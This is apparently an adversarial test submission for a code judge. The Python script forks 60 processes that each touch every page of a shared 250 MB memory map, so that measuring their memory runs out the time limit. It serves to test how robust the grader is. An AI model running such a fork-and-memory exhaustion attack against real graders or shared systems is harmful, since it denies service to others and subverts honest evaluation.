# attack: dozens of processes share one large memory, page by page, so that to weigh them takes the judge long
# exercise: ex01_map_dataset
# check: ex01.tabular.len
# slow: uses up the time for an answer
import mmap
import os
import time

print("TRIED", flush=True)
shared = mmap.mmap(-1, 250 << 20)
for _ in range(60):
    if os.fork() == 0:
        for at in range(0, len(shared), 4096):
            shared[at] = 1
        time.sleep(20)
        os._exit(0)
time.sleep(20)
